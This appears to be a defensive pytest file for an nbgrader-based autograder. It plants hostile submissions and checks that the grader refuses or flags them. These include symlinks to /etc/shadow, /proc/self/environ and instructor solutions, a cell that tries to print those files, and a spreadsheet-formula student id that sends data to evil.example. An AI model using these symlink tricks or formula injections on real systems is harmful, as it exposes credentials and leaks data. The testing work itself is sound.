"""The submission folder is hostile too (tito.intake): links, fifos, huge files, bad
timestamps and odd student ids, each in ONE autograde batch beside an honest, fully solved
submission that must keep 100/100 and no flag. Then the same links through nbgrader's own
`nbgrader autograde` in the repository copy (nbgrader_config.py)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "nbgrader"))
from course_batch import MODULE, NOTEBOOK, TIMESTAMP, course_env, generate  # noqa: E402
from factory import solved, write  # noqa: E402
from helpers import copy_repo, run_tito  # noqa: E402

pytestmark = pytest.mark.slow

MAX_FILE_BYTES = 2_000_000  # the test's cap (nbgrader_config.py of the copy): above a solved notebook
HYPERLINK = '=HYPERLINK("http:evil.example?"&A1,"x")'
ODD_IDS = [HYPERLINK, " spaced ", "a[b]", "star*"]
SIDE_LINKS = {"hidden.py": "{root}/src/03_layers/03_layers.py", "gradebook.db": "{root}/nbgrader/gradebook.db",
              "environ": "/proc/self/environ", "shadow": "/etc/shadow"}
# What must never reach a kernel or a report: a line of the instructor source (jupytext cell
# headers exist only there), the gradebook's file header, the grader's environment, /etc/shadow.
SECRETS = ["# %% nbgrader=", "SQLite format 3", "TINYTORCH", "root:"]
PRINT_SIDE_FILES = (
    "for name in {names!r}:\n"
    "    try:\n"
    "        print('READ', name, open(name, errors='replace').read()[:3000])\n"
    "    except OSError:\n"
    "        print('NOFILE', name)\n")


def _with_cell(notebook, source: str):
    notebook.cells.append(nbformat.v4.new_code_cell(source))
    return notebook


def _folder(root: Path, student: str) -> Path:
    folder = root / "nbgrader" / "submitted" / student / MODULE
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def _plant(root: Path, student: str, notebook=None, timestamp: bytes | None = TIMESTAMP.encode()) -> Path:
    folder = _folder(root, student)
    if notebook is not None:
        write(notebook, folder / NOTEBOOK)
    if timestamp is not None:
        (folder / "timestamp.txt").write_bytes(timestamp)
    return folder


def plant_batch(root: Path) -> None:
    correct = solved(root)
    _plant(root, "honest", correct)
    # the notebook is a link: to the course's source notebook (solutions), to a classmate's
    os.symlink("../../../source/03_layers/layers.ipynb", _plant(root, "link_source") / NOTEBOOK)
    os.symlink("../../honest/03_layers/layers.ipynb", _plant(root, "link_classmate") / NOTEBOOK)
    # files beside the notebook that are links, and a cell that prints them
    folder = _plant(root, "side_links", _with_cell(solved(root), PRINT_SIDE_FILES.format(names=list(SIDE_LINKS))))
    for name, target in SIDE_LINKS.items():
        os.symlink(target.format(root=root), folder / name)
    os.mkfifo(_plant(root, "fifo", correct) / "pipe")
    os.symlink("honest", root / "nbgrader" / "submitted" / "linked_folder")  # a student folder that is a link
    _plant(root, "bad_time", correct, b"last tuesday\n")
    _plant(root, "binary_time", correct, b"\xff\xfe\x00\x89PNG" * 100)
    with open(_plant(root, "oversized", correct) / "weights.bin", "wb") as big:  # sparse: costs no disk
        big.truncate(MAX_FILE_BYTES + 1)
    for student in ODD_IDS:
        _plant(root, student, correct)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = copy_repo(tmp_path_factory.mktemp("intake") / "repo")
    with open(root / "nbgrader_config.py", "a") as config:
        config.write(f"\nc.SubmissionIntake.max_file_bytes = {MAX_FILE_BYTES}\n")
    generate(root)
    plant_batch(root)
    report = root / "autograde.json"
    cli = run_tito(root, "nbgrader", "autograde", MODULE, "--json", str(report), env=course_env(root))
    reports = {r["student"]: r for r in json.loads(report.read_text())} if report.is_file() else {}
    return root, cli, reports


def _kinds(report: dict) -> set[str]:
    return {flag["kind"] for flag in report["flags"]}


def _messages(report: dict, kind: str) -> str:
    return " | ".join(flag["message"] for flag in report["flags"] if flag["kind"] == kind)


def test_the_batch_grades_everyone_and_exits_0(batch):
    root, cli, reports = batch
    assert cli.returncode == 0, cli.stdout + cli.stderr
    expected = {"honest", "link_source", "link_classmate", "side_links", "fifo", "linked_folder", "bad_time",
                "binary_time", "oversized", *ODD_IDS}
    assert set(reports) == expected
    assert "Traceback" not in cli.stderr


def test_the_honest_submission_keeps_full_marks_and_no_flag(batch):
    _, _, reports = batch
    assert reports["honest"]["score"] == 100 and reports["honest"]["flags"] == []


@pytest.mark.parametrize("student", ["link_source", "link_classmate"])
def test_a_linked_notebook_is_refused_and_scores_0(batch, student):
    _, _, reports = batch
    report = reports[student]
    assert report["score"] == 0 and not report["graded"]
    assert "refused_file" in _kinds(report) and NOTEBOOK in _messages(report, "refused_file")
    assert "link" in report["reason"]


def test_a_linked_student_folder_is_refused(batch):
    _, _, reports = batch
    report = reports["linked_folder"]
    assert report["score"] == 0 and not report["graded"] and "refused_file" in _kinds(report)
    assert "link" in report["reason"]


def test_linked_side_files_are_refused_by_name_and_never_reach_the_kernel(batch):
    root, _, reports = batch
    report = reports["side_links"]
    assert report["score"] == 100
    refused = _messages(report, "refused_file")
    assert all(name in refused for name in SIDE_LINKS), refused
    autograded = (root / "nbgrader/autograded/side_links" / MODULE / NOTEBOOK).read_text()
    assert all(f"NOFILE {name}" in autograded for name in SIDE_LINKS) and "READ " not in autograded
    for text in (autograded, json.dumps(report)):
        assert not [secret for secret in SECRETS if secret in text]
    assert not [p.name for p in (root / "nbgrader/autograded/side_links" / MODULE).iterdir()
                if p.name in SIDE_LINKS]


def test_a_fifo_is_refused_by_name_without_hanging_the_coordinator(batch):
    _, _, reports = batch
    report = reports["fifo"]
    assert report["score"] == 100 and "pipe" in _messages(report, "refused_file")


@pytest.mark.parametrize("student", ["bad_time", "binary_time"])
def test_a_bad_timestamp_is_that_students_flag(batch, student):
    root, _, reports = batch
    report = reports[student]
    assert report["score"] == 100 and _kinds(report) == {"bad_timestamp"}
    assert "timestamp.txt" in _messages(report, "bad_timestamp")
    assert not (root / "nbgrader/autograded" / student / MODULE / "timestamp.txt").exists()


def test_an_oversized_file_is_left_out_by_name(batch):
    _, _, reports = batch
    report = reports["oversized"]
    assert report["score"] == 100 and "weights.bin" in _messages(report, "refused_file")
    assert str(MAX_FILE_BYTES) in _messages(report, "refused_file") or "2.0 MB" in _messages(report, "refused_file")


@pytest.mark.parametrize("student", ODD_IDS)
def test_an_odd_student_id_is_graded_and_flagged(batch, student):
    _, _, reports = batch
    report = reports[student]
    assert report["score"] == 100 and _kinds(report) == {"odd_student_id"}


def test_student_selects_an_odd_id(batch):
    root, _, _ = batch
    report = root / "selected.json"
    result = run_tito(root, "nbgrader", "autograde", MODULE, "--student", "a[b]", "star*", " spaced ",
                      "--json", str(report), env=course_env(root))
    assert result.returncode == 0, result.stdout + result.stderr
    scores = {r["student"]: r["score"] for r in json.loads(report.read_text())}
    assert scores == {"a[b]": 100, "star*": 100, " spaced ": 100}


def test_feedback_of_a_linked_notebook_shows_no_solution(batch):
    root, _, _ = batch
    result = run_tito(root, "nbgrader", "feedback", MODULE, "--student", "link_source", "side_links",
                      env=course_env(root))
    assert result.returncode == 0, result.stdout + result.stderr
    page = (root / "nbgrader/feedback/link_source" / MODULE / "layers.html").read_text()
    assert "BEGIN SOLUTION" not in page and "class Linear" not in page and "link" in page
    page = (root / "nbgrader/feedback/side_links" / MODULE / "layers.html").read_text()
    assert not [secret for secret in SECRETS if secret in page]


# -- nbgrader's own CLI ------------------------------------------------------------------------
@pytest.fixture(scope="module")
def nbgrader_course(tmp_path_factory):
    root = copy_repo(tmp_path_factory.mktemp("intake-cli") / "repo")
    generate(root)
    _plant(root, "honest", solved(root))
    os.symlink("../../../source/03_layers/layers.ipynb", _plant(root, "link_source") / NOTEBOOK)
    # not *.py, which nbgrader's CourseDirectory.ignore would leave out anyway
    folder = _plant(root, "side_link", _with_cell(solved(root), PRINT_SIDE_FILES.format(names=["notes.txt"])))
    os.symlink(root / "src/03_layers/03_layers.py", folder / "notes.txt")
    result = subprocess.run([sys.executable, "-m", "nbgrader", "autograde", MODULE, "--force"], cwd=root,
                            env=course_env(root), capture_output=True, text=True, timeout=900)
    return root, result


def test_nbgrader_cli_refuses_a_linked_notebook_and_side_file(nbgrader_course):
    from nbgrader.api import Gradebook

    root, result = nbgrader_course
    assert result.returncode == 0, result.stdout + result.stderr
    with Gradebook(f"sqlite:///{root / 'nbgrader/gradebook.db'}", "tinytorch") as book:
        scores = {s.student.id: s.score for s in book.assignment_submissions(MODULE)}
    assert scores == {"honest": 100.0, "link_source": 0.0, "side_link": 100.0}
    linked = (root / "nbgrader/autograded/link_source" / MODULE / NOTEBOOK).read_text()
    assert "BEGIN SOLUTION" not in linked and "class Linear(Layer):\n" not in linked.replace('\\n', '\n')
    side = root / "nbgrader/autograded/side_link" / MODULE
    autograded = (side / NOTEBOOK).read_text()
    assert "NOFILE notes.txt" in autograded and "# %% nbgrader=" not in autograded
    assert not (side / "notes.txt").exists()
